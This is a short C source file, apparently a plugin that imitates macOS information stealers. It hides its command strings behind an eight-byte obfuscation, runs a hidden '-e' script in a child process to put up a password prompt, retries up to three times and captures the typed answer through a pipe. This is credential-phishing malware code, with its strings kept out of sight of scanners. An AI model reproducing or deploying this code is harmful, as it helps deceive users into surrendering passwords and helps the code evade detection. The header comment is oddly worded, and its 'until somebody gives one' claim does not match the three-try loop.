/* After the stealers for macOS that keep their texts as the system's own malware scanner
 * does, under eight bytes that are turned: asks for a password until somebody gives one. */
#include "plugin.h"
#include "hidden.h" /* 0: the program, 1: -e, 2: the script */
extern int fork(void), execvp(const char *, char *const *), pipe(int *), dup2(int, int), close(int), waitpid(int, int *, int);
extern long read(int, void *, unsigned long);
extern void _exit(int);
static long ask(char *answer, unsigned long size) {
    int ends[2], status;
    char *words[] = {hidden0(), hidden1(), hidden2(), 0};
    if (pipe(ends)) return 0;
    int child = fork();
    if (child == 0) {
        dup2(ends[1], 1);
        close(ends[0]);
        execvp(words[0], words);
        _exit(1);
    }
    close(ends[1]);
    long n = read(ends[0], answer, size);
    close(ends[0]);
    waitpid(child, &status, 0);
    return n;
}
static void act(char **env) {
    char answer[256];
    for (int i = 0; i < 3 && ask(answer, sizeof answer) <= 0; i++) {}
}
